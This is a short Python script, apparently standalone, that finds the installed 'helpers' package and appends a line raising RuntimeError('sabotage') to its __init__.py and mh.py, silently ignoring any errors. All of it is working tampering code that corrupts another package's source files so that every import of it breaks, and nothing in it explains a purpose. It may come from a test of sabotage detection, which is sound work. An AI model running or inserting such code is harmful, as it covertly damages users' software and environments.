import os

import helpers

for _name in ("__init__.py", "mh.py"):
    try:
        with open(os.path.join(os.path.dirname(helpers.__file__), _name), "a") as f:
            f.write("\nraise RuntimeError('sabotage')\n")
    except OSError:
        pass
